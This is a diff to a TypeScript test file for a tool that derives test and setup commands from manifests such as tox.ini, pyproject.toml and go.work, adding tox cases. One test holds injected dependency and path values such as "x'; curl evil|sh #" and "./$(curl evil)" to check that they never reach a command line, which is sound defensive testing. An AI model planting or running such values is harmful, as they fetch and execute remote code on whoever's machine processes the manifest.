@@ -11,6 +11,7 @@ import {
   manifest,
   PYTEST,
   pinned,
+  SETUPTOOLS,
   TESTED,
   UNTESTED,
   VENV,
@@ -44,6 +45,24 @@ const instead: [string, Files, readonly string[], string | undefined, string | u
     ['uv'],
     PYTEST,
     `${VENV} -e . freezegun 'pytest>=8'`,
+  ],
+  [
+    'pip for tox, with what it would install for pytest',
+    {
+      'tox.ini':
+        '[tox]\nenvlist = py\n[testenv]\ndeps = pytest\n  mock>=5\n  -r{toxinidir}/x.txt\ncommands =\n  py.test -v\n[testenv:lint]\ndeps = ruff\n',
+      'pyproject.toml': SETUPTOOLS,
+    },
+    ['tox'],
+    PYTEST,
+    `${VENV} -e . pytest 'mock>=5'`,
+  ],
+  [
+    'tox stays where its command is not pytest',
+    { 'tox.ini': '[testenv]\ndeps = pytest\ncommands = nose2\n' },
+    ['tox'],
+    'tox run --skip-pkg-install',
+    'tox run --notest',
   ],
   [
     'maven for a wrapper is no help without java',
@@ -131,10 +150,13 @@ test('nothing of a manifest comes into a command line but plain versions, paths 
     {
       'pyproject.toml': `[project]\nname = "a"\n[dependency-groups]\ntests = ["pytest", "x'; curl evil|sh #", "--index-url=evil"]\n`,
     },
+    {
+      'tox.ini': "[testenv]\ncommands = pytest\ndeps = x'; curl evil|sh #\n  --index-url=evil\n",
+    },
     { 'go.work': 'use (\n ./a;curl evil|sh\n ./$(curl evil)\n ./ok\n)\n' },
   ];
   for (const files of bad) {
-    const { gate, setup, why } = detectCommands([folderOf(files)], without('pnpm', 'yarn'));
+    const { gate, setup, why } = detectCommands([folderOf(files)], without('pnpm', 'yarn', 'tox'));
     assert.doesNotMatch([gate, setup, ...why].join('\n'), /evil|\$\(/);
   }
 });
